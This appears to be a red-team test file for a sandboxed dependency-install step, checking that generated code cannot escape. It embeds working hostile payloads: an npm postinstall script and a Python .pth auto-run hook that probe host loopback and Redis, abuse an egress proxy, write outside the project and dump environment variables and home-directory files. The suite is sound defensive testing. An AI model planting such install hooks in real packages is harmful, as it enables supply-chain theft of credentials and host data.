/**
 * The red-team suite of the install step (docs/sandbox.md, "The install step's threat model"):
 * generated code that gets to run while dependencies install — an npm package's postinstall (the
 * policy allowing scripts), a wheel's `.pth` file (run by every Python start, `pip freeze` of the
 * install included, whatever the policy says) — and manifests that name another source. Each runs
 * through the real install entry point against a real verdaccio and a real wheel index, under
 * bubblewrap and under the fallback modes (npm: Node's permission model; Python: --allow-unsandboxed;
 * both with `unshare --net`), and each test asserts on the host afterwards: a listener on the host's
 * loopback (IPv4 and IPv6) that received nothing, a Redis key absent, a marker file absent, no secret
 * and no host path in what the code could see.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { checkInstall, runInstall, type InstallRun } from '../../src/host/install/install-project.ts';
import type { DependencyRegistries } from '../../src/host/install/registries.ts';
import { DEFAULT_SANDBOX_SETTINGS, type SandboxSettings } from '../../src/host/sandbox/sandbox-settings.ts';
import { startNpmRegistry, type NpmRegistry } from '../helpers/npm-registry.ts';
import { startPythonIndex, type PythonIndex } from '../helpers/python-index.ts';
import { startRedis, type TestRedis } from '../helpers/redis-server.ts';
import { BUBBLEWRAP, NETWORK_NAMESPACE, PYTHON, REDIS, requireSystem } from '../helpers/system-requirements.ts';
import { removeTempDirs, tempDir } from '../helpers/temp-dir.ts';

const USER_TOKEN = `user-npm-token-${process.pid}-never-in-the-sandbox`;
const HOST_SECRET = `host-secret-${process.pid}-never-in-the-sandbox`;

interface Canary {
  ports: { v4: number; v6: number | null };
  received: string[];
  stop(): Promise<void>;
}

/** Listeners on the host's loopback that record every connection and what it sent. */
async function startCanary(): Promise<Canary> {
  const received: string[] = [];
  const servers: net.Server[] = [];
  const listen = (host: string) =>
    new Promise<number | null>((resolve) => {
      const server = net.createServer((socket) => {
        received.push(`connection from ${socket.remoteAddress}`);
        socket.on('data', (chunk) => received.push(chunk.toString('utf8')));
        socket.on('error', () => undefined);
      });
      server.once('error', () => resolve(null));
      server.listen(0, host, () => {
        servers.push(server);
        resolve((server.address() as net.AddressInfo).port);
      });
    });
  const v4 = (await listen('127.0.0.1'))!;
  const v6 = await listen('::1');
  return { ports: { v4, v6 }, received, stop: async () => void (await Promise.all(servers.map((s) => new Promise((r) => s.close(r))))) };
}

/** What the npm postinstall tries, each attempt's result written to the project for the test to read. */
function npmAttack(ports: { canary: number; canary6: number; redis: number; registry: number }, marker: string): string {
  return `
const net = require('net'), http = require('http'), fs = require('fs'), os = require('os'), path = require('path');
const C = ${JSON.stringify({ ...ports, marker })};
const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
const tcp = (host, port, payload) => new Promise((resolve) => {
  const s = net.connect({ host, port });
  const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000);
  s.on('connect', () => { clearTimeout(t); s.end(payload); resolve('connected'); });
  s.on('error', (e) => { clearTimeout(t); resolve('error ' + e.code); });
});
const viaProxy = (method, target, host) => new Promise((resolve) => {
  if (!proxy) return resolve('no proxy');
  const req = http.request({ host: proxy.hostname, port: proxy.port, method, path: target, headers: { host } });
  req.setTimeout(3000, () => { req.destroy(); resolve('timeout'); });
  req.on('connect', (res, socket) => { socket.end('SET sopworks-pwned 1\\r\\n'); resolve('connect ' + res.statusCode); });
  req.on('response', (res) => { res.resume(); resolve('status ' + res.statusCode); });
  req.on('error', (e) => resolve('error ' + e.code));
  req.end();
});
(async () => {
  const r = {};
  r.direct = await tcp('127.0.0.1', C.canary, 'direct ' + process.cwd());
  r.direct6 = C.canary6 ? await tcp('::1', C.canary6, 'direct6') : 'no ipv6';
  r.redis = await tcp('127.0.0.1', C.redis, 'SET sopworks-pwned 1\\r\\n');
  r.proxyToCanary = await viaProxy('GET', 'http://127.0.0.1:' + C.canary + '/' + encodeURIComponent(process.cwd()), '127.0.0.1:' + C.canary);
  r.proxyConnectRedis = await viaProxy('CONNECT', '127.0.0.1:' + C.redis, '127.0.0.1:' + C.redis);
  r.proxyHostSmuggled = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/-/ping', '127.0.0.1:' + C.canary);
  r.proxyOtherName = await viaProxy('GET', 'http://localhost:' + C.registry + '/-/ping', 'localhost:' + C.registry);
  r.proxyTlsToHttpRegistry = await viaProxy('CONNECT', '127.0.0.1:' + C.registry, '127.0.0.1:' + C.registry);
  r.proxyWrite = await viaProxy('DELETE', 'http://127.0.0.1:' + C.registry + '/attack-pkg/-rev/1', '127.0.0.1:' + C.registry);
  try { fs.writeFileSync(C.marker, 'pwned'); r.marker = 'written'; } catch (e) { r.marker = 'error ' + e.code; }
  let home = '';
  try { home = fs.readdirSync(os.homedir()).map((f) => f + ':' + fs.readFileSync(path.join(os.homedir(), f), 'utf8')).join('\\n'); } catch {}
  r.seen = JSON.stringify(process.env) + '\\n' + home + '\\n' + process.cwd();
  fs.writeFileSync(path.join(process.env.INIT_CWD || '.', 'attack-results.json'), JSON.stringify(r));
})();
`;
}

/** The same from a wheel's `.pth`, in Python: it runs at `pip freeze`, at the end of the install. */
function pythonAttack(ports: { canary: number; canary6: number; redis: number }, marker: string): string {
  return `
import json, os, socket, urllib.request
C = json.loads(${JSON.stringify(JSON.stringify({ ...ports, marker }))})
def tcp(family, host, port, payload):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((host, port)); s.sendall(payload); s.close(); return "connected"
    except Exception as e:
        return "error " + type(e).__name__
def via_proxy_connect(target):
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy: return "no proxy"
    host, port = proxy.split("//")[1].rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), 3); s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
        status = s.recv(64).decode(errors="replace").split("\\r\\n")[0]; s.sendall(b"SET sopworks-pwned 1\\r\\n"); s.close(); return status
    except Exception as e:
        return "error " + type(e).__name__
def via_proxy_get(url):
    try:
        return "status %s" % urllib.request.build_opener(urllib.request.ProxyHandler({"http": os.environ.get("HTTP_PROXY", "")})).open(url, timeout=3).status
    except urllib.error.HTTPError as e:
        return "status %s" % e.code
    except Exception as e:
        return "error " + type(e).__name__
if not os.path.exists("py-attack-results.json") and os.path.isdir(".venv"):
    r = {}
    r["direct"] = tcp(socket.AF_INET, "127.0.0.1", C["canary"], ("direct " + os.getcwd()).encode())
    r["direct6"] = tcp(socket.AF_INET6, "::1", C["canary6"], b"direct6") if C["canary6"] else "no ipv6"
    r["redis"] = tcp(socket.AF_INET, "127.0.0.1", C["redis"], b"SET sopworks-pwned 1\\r\\n")
    r["proxyToCanary"] = via_proxy_get("http://127.0.0.1:%d/%s" % (C["canary"], os.getcwd()))
    r["proxyConnectRedis"] = via_proxy_connect("127.0.0.1:%d" % C["redis"])
    try:
        open(C["marker"], "w").write("pwned"); r["marker"] = "written"
    except Exception as e:
        r["marker"] = "error " + type(e).__name__
    r["seen"] = json.dumps(dict(os.environ)) + "\\n" + os.getcwd()
    open("py-attack-results.json", "w").write(json.dumps(r))
`;
}

interface Attacked {
  projectDir: string;
  run: InstallRun;
  results: Record<string, string>;
}

describe('red team: the install step', function () {
  this.timeout(600_000);
  let npm: NpmRegistry;
  let wheels: PythonIndex;
  let redis: TestRedis;
  let canary: Canary;
  let hostDir: string;
  let marker: string;
  let userEnv: NodeJS.ProcessEnv;
  let pthProject: string | null = null;
  const npmRegistries = (): DependencyRegistries => ({ npm: npm.url, pipIndex: null, pipFindLinks: null });
  const pipRegistries = (): DependencyRegistries => ({ npm: null, pipIndex: null, pipFindLinks: wheels.url });

  before(async function () {
    requireSystem(this, BUBBLEWRAP, PYTHON, REDIS);
    [npm, wheels, redis, canary] = await Promise.all([startNpmRegistry(), startPythonIndex(), startRedis(), startCanary()]);
    hostDir = await tempDir('sopworks-install-attack-');
    marker = path.join(hostDir, 'PWNED');
    // The user's own npm config, with a token for another registry: it must stay on the host.
    await fs.writeFile(path.join(hostDir, 'npmrc'), `//npm.example/:_authToken=${USER_TOKEN}\n`);
    userEnv = { ...process.env, npm_config_userconfig: path.join(hostDir, 'npmrc'), SOPWORKS_TEST_SECRET: HOST_SECRET };
    process.env.SOPWORKS_TEST_SECRET = HOST_SECRET;
    const ports = { canary: canary.ports.v4, canary6: canary.ports.v6 ?? 0, redis: redis.port, registry: Number(new URL(npm.url).port) };
    await npm.publishFiles({
      'package.json': JSON.stringify({ name: 'attack-pkg', version: '1.0.0', scripts: { postinstall: 'node attack.js' } }),
      'attack.js': npmAttack(ports, marker),
    });
    await wheels.addWheelFiles('attackpth', '1.0.0', { 'attackpth.py': pythonAttack(ports, marker), 'attackpth-hook.pth': 'import attackpth\n' });
  });

  after(async () => {
    delete process.env.SOPWORKS_TEST_SECRET;
    await Promise.all([npm?.stop(), wheels?.stop(), redis?.stop(), canary?.stop()]);
    await removeTempDirs();
  });

  afterEach(async () => {
    assert.deepEqual(canary.received, [], "the host's loopback listener received nothing");
    assert.equal(await redis.client.get('sopworks-pwned'), null, 'the Redis key is absent');
    await assert.rejects(fs.access(marker), 'no marker file on the host');
  });

  async function attack(files: Record<string, string>, registries: DependencyRegistries, sandbox: SandboxSettings, resultsFile: string): Promise<Attacked> {
    const projectDir = await tempDir();
    for (const [name, content] of Object.entries(files)) await fs.writeFile(path.join(projectDir, name), content);
    const check = await checkInstall({ projectDir, registries, scripts: true, env: userEnv });
    assert.deepEqual(check.refusals, []);
    const run = await runInstall(
      { ...check, plan: check.plan! },
      { projectDir, registries, scripts: true, network: true, sandbox, wallSeconds: 240, env: userEnv },
    );
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    const results = JSON.parse(await fs.readFile(path.join(projectDir, resultsFile), 'utf8')) as Record<string, string>;
    // What the code could see holds no secret of the host and not where the project lives on it.
    for (const secret of [USER_TOKEN, HOST_SECRET, hostDir]) assert.ok(!results.seen!.includes(secret), `the install saw ${secret}`);
    if (sandbox.mode !== 'fallback') assert.ok(!results.seen!.includes(projectDir), "the install's environment and cwd do not name the host path");
    return { projectDir, run, results };
  }

  const bubblewrap: SandboxSettings = { ...DEFAULT_SANDBOX_SETTINGS, mode: 'bubblewrap' };
  const fallback: SandboxSettings = { ...DEFAULT_SANDBOX_SETTINGS, mode: 'fallback', allowUnsandboxed: true };

  for (const [label, sandbox, mode] of [
    ['bubblewrap', bubblewrap, 'bubblewrap'],
    ["Node's permission model and unshare --net", fallback, 'node-permissions'],
  ] as const) {
    it(`npm postinstall under ${label}: no host loopback (v4, v6, Redis), the proxy refuses all but the registry, no write outside, no secret`, async function () {
      if (mode !== 'bubblewrap') requireSystem(this, NETWORK_NAMESPACE);
      const { run, results } = await attack(
        { 'package.json': JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { 'attack-pkg': '1.0.0' } }) },
        npmRegistries(),
        sandbox,
        'attack-results.json',
      );
      assert.equal(run.outcome.mode, mode);
      assert.match(results.direct!, /^error (ECONNREFUSED|ENETUNREACH)/);
      assert.match(results.direct6!, /^(error|no ipv6)/);
      assert.match(results.redis!, /^error/);
      assert.equal(results.proxyToCanary, 'status 403');
      assert.equal(results.proxyConnectRedis, 'connect 403');
      assert.equal(results.proxyHostSmuggled, 'status 200', 'a forged Host still reaches only the registry');
      assert.equal(results.proxyOtherName, 'status 403', 'another name for the registry host is not the registry');
      assert.equal(results.proxyTlsToHttpRegistry, 'connect 403', 'an http registry is not reachable as https');
      assert.equal(results.proxyWrite, 'status 403', 'nothing but reads reaches the registry (the user token would go with it)');
      assert.match(results.marker!, /^error/);
      const refused = run.outcome.violations.filter((v) => v.kind === 'network').map((v) => v.detail);
      assert.equal(refused.length, 5, refused.join('\n'));
      assert.ok(refused.every((detail) => detail.startsWith('refused by the egress proxy: ')));
    });
  }

  for (const [label, sandbox, mode] of [
    ['bubblewrap', bubblewrap, 'bubblewrap'],
    ['--allow-unsandboxed and unshare --net', fallback, 'unsandboxed'],
  ] as const) {
    it(`a wheel's .pth run by pip freeze under ${label}: no host loopback, Redis or listener through the proxy`, async function () {
      if (mode !== 'bubblewrap') requireSystem(this, NETWORK_NAMESPACE);
      const { projectDir, run, results } = await attack({ 'requirements.txt': 'attackpth==1.0.0\n' }, pipRegistries(), sandbox, 'py-attack-results.json');
      if (mode === 'bubblewrap') pthProject = projectDir;
      assert.equal(run.outcome.mode, mode);
      assert.match(results.direct!, /^error/);
      assert.match(results.direct6!, /^(error|no ipv6)/);
      assert.match(results.redis!, /^error/);
      assert.equal(results.proxyToCanary, 'status 403');
      assert.match(results.proxyConnectRedis!, /^HTTP\/1\.1 403/);
      // Writes outside the project are a documented gap of --allow-unsandboxed (docs/sandbox.md).
      if (mode === 'unsandboxed') await fs.rm(marker, { force: true });
      else assert.match(results.marker!, /^error/);
    });
  }

  it("with scripts off, a wheel's .pth already in the venv does not run during the next install (Python starts without site)", async () => {
    // The project of the bubblewrap case above: its venv holds the package and its .pth, and the
    // sandbox's python3 is now the venv's. (A first install with scripts off is the dependency suite's.)
    assert.ok(pthProject, 'the bubblewrap .pth case ran first');
    await fs.rm(path.join(pthProject, 'py-attack-results.json'));
    await fs.writeFile(path.join(pthProject, 'requirements.txt'), 'attackpth>=1.0\n');
    const check = await checkInstall({ projectDir: pthProject, registries: pipRegistries(), scripts: false, env: userEnv });
    const run = await runInstall(
      { ...check, plan: check.plan! },
      { projectDir: pthProject, registries: pipRegistries(), scripts: false, network: true, sandbox: bubblewrap, wallSeconds: 240 },
    );
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    assert.equal(await fs.readFile(path.join(pthProject, 'requirements.lock'), 'utf8'), 'attackpth==1.0.0\n', 'installed and locked');
    await assert.rejects(fs.access(path.join(pthProject, 'py-attack-results.json')), 'the .pth did not run');
  });

  describe('manifests that name another source are refused before anything runs', () => {
    const refused = async (files: Record<string, string>, registries: DependencyRegistries, where: RegExp) => {
      const projectDir = await tempDir();
      for (const [name, content] of Object.entries(files)) {
        await fs.mkdir(path.dirname(path.join(projectDir, name)), { recursive: true });
        await fs.writeFile(path.join(projectDir, name), content);
      }
      const check = await checkInstall({ projectDir, registries, scripts: false, env: userEnv });
      assert.ok(check.refusals.length > 0, 'refused');
      assert.match(check.refusals.map((r) => `${r.file}:${r.line} ${r.found}`).join('\n'), where);
      return projectDir;
    };
    const canaryUrl = () => `http://127.0.0.1:${canary.ports.v4}`;

    it("a local folder with its own in-tree build backend (the issue's attack): refused, its backend never runs", async () => {
      const backend = `import os\nopen(${JSON.stringify(marker)}, "w").write("pwned")\ndef build_wheel(*a, **k): raise SystemExit(1)\n`;
      const projectDir = await refused(
        {
          'requirements.txt': './pkg\n',
          'pkg/pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
          'pkg/backend.py': backend,
        },
        pipRegistries(),
        /^requirements\.txt:1 \.\/pkg$/,
      );
      await assert.rejects(fs.access(path.join(projectDir, '.venv')), 'nothing was installed');
    });

    it('an index option line pointing at a host listener: refused', async () => {
      await refused({ 'requirements.txt': `tinyslug\n--index-url ${canaryUrl()}/simple\n` }, pipRegistries(), /^requirements\.txt:2 --index-url/);
    });

    it('a direct reference and an included file outside the project: refused', async () => {
      await refused(
        { 'requirements.txt': `x @ ${canaryUrl()}/x.whl\n-r ../../etc/reqs.txt\n` },
        pipRegistries(),
        /requirements\.txt:1 x @ .*\nrequirements\.txt:2 -r \.\.\/\.\.\/etc\/reqs\.txt/,
      );
    });

    it('an npm dependency as a tarball URL, a git repository and a folder: refused', async () => {
      await refused(
        { 'package.json': JSON.stringify({ dependencies: { a: `${canaryUrl()}/a.tgz`, b: 'github:evil/b', c: 'file:../c' } }, null, 2) },
        npmRegistries(),
        /package\.json:3 dependencies\.a.*\npackage\.json:4 dependencies\.b.*\npackage\.json:5 dependencies\.c/,
      );
    });

    it('a project .npmrc naming a registry, and a lockfile resolving from a host listener: refused', async () => {
      const lock = { lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', resolved: `${canaryUrl()}/a.tgz` } } };
      await refused(
        {
          'package.json': JSON.stringify({ dependencies: { a: '^1.0.0' } }),
          'package-lock.json': JSON.stringify(lock, null, 2),
          '.npmrc': `registry=${canaryUrl()}/\n`,
        },
        npmRegistries(),
        /package-lock\.json:4 node_modules\/a: resolved .*\n\.npmrc:1 registry=/,
      );
    });
  });
});
